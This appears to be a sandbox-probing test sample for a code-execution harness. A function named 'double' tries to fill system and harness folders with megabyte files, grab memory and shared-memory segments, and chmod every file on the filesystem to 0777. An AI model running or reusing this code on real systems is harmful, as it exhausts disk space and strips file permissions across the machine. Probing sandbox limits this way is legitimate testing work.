"""Writes wherever it may, and where it may not: files, empty files, shared memory."""

import contextlib
import ctypes
import os

written = []


def double(x):
    for folder in ("/", "/home", "/tmp", "/dev/shm", "/var/tmp", "/python", "/harness", "."):
        for number in range(100):
            with contextlib.suppress(OSError), open(f"{folder}/{number}", "wb") as file:
                written.append(folder)
                file.write(b"x" * 1_000_000)
    with contextlib.suppress(OSError):
        written.append(os.memfd_create("x"))
    libc = ctypes.CDLL(None)
    if libc.shmget(0, 1 << 28, 0o1600) >= 0:
        written.append("shared memory")
    for folder, _, files in os.walk("/"):
        for name in [folder, *(f"{folder}/{file}" for file in files)]:
            with contextlib.suppress(OSError):
                os.chmod(name, 0o777)
                written.append(name)
    print("written", written)
    return 0
